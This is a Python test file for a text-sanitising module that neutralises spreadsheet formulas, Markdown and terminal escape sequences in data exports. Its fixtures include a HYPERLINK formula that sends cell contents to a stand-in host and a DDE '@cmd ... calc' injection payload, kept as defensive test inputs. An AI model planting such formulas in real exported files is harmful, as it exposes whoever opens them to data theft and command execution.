"""User text made inert: spreadsheet formulas, Markdown, terminal escapes (indicators/safe_text)."""

import csv
import io
import zipfile

import openpyxl
import pandas as pd

from indicators.catalog import load_catalog
from indicators.export import tables
from indicators.safe_text import markdown_text, neutralise_cell, neutralise_frame, terminal_text

HYPERLINK = '=HYPERLINK("http://192.0.2.1/?d="&A1,"Details")'
HOSTILE = {"title": HYPERLINK, "publisher": "+49 SUM(1+1)", "licence": "@cmd|' /C calc'!A0",
           "reference_date": "-2+3", "kind": "\tx", "url": "\r=1+1"}


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    assert [neutralise_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")] == \
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [neutralise_cell(v) for v in ("Hamme", "", "a=b", -5, 2.5, None)] == ["Hamme", "", "a=b", -5, 2.5, None]
    frame = pd.DataFrame({"=Name": ["=A1", "Hamme", None], "Wert": [-1.5, 2.0, float("nan")]})
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=Name", "Wert"]
    assert out["'=Name"].tolist()[:2] == ["'=A1", "Hamme"] and pd.isna(out["'=Name"].tolist()[2])
    assert out["Wert"].tolist()[:2] == [-1.5, 2.0]
    assert frame["=Name"].tolist()[0] == "=A1"              # the caller's frame is unchanged


def hostile_metadata() -> pd.DataFrame:
    return tables.metadata_frame(["kinderarmut"], load_catalog(), {"evil": HOSTILE}, ["evil"])


def test_xlsx_export_holds_no_formula_and_only_string_text_cells():
    frame = pd.DataFrame({"Ortsteil": ["=HYPERLINK(\"http://x\")", "Hamme"], "Wert": [-3.5, 12.0]})
    book = openpyxl.load_workbook(io.BytesIO(tables.to_xlsx(frame, hostile_metadata())))
    data, meta = book[tables.DATA_SHEET], book[tables.META_SHEET]
    assert [[c.value for c in row] for row in data.iter_rows()] == \
        [["Ortsteil", "Wert"], ["'=HYPERLINK(\"http://x\")", -3.5], ["Hamme", 12]]
    source_row = [c.value for c in list(meta.iter_rows())[-1]]
    assert source_row == ["Quelle", "evil", "'" + HYPERLINK, "'+49 SUM(1+1)", "'\r=1+1", "'\tx", None,
                          "'@cmd|' /C calc'!A0", "'-2+3"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    # nothing formula-like in the XML either
    with zipfile.ZipFile(io.BytesIO(tables.to_xlsx(frame, hostile_metadata()))) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_csv_export_neutralises_text_cells():
    text = tables.to_excel_csv(hostile_metadata()).decode("utf-8-sig")
    assert "\r\n" + "Quelle;evil;\"'=HYPERLINK(\"\"http://192.0.2.1/?d=\"\"&A1,\"\"Details\"\")\";'+49 SUM(1+1);" in text
    assert "\"'\r=1+1\";'\tx;;'@cmd|' /C calc'!A0;'-2+3\r\n" in text
    last = list(csv.reader(io.StringIO(text), delimiter=";"))[-1]
    assert last == ["Quelle", "evil", "'" + HYPERLINK, "'+49 SUM(1+1)", "'\r=1+1", "'\tx", "",
                    "'@cmd|' /C calc'!A0", "'-2+3"]
    numbers = tables.to_excel_csv(pd.DataFrame({"Wert": [-3.5]})).decode("utf-8-sig")
    assert numbers == "Wert\r\n-3,5\r\n"                         # a negative number is not text


def test_markdown_text_renders_nothing():
    assert markdown_text("![x](http://h/p.png) [Hier](http://h/)") == \
        "\\!\\[x\\]\\(http\\://h/p\\.png\\) \\[Hier\\]\\(http\\://h/\\)"
    assert markdown_text("<b>a</b>\n# b") == "&lt;b&gt;a&lt;/b&gt; \\# b"


def test_terminal_text_strips_escape_sequences_and_controls():
    hostile = "Hamme\x1b[2J\x1b[31mrot\x1b[0m\x1b]0;Titel\x07\x9b1mX\x00\x08\r\nZeile 2\tok"
    assert terminal_text(hostile) == "HammerotX\nZeile 2\tok"
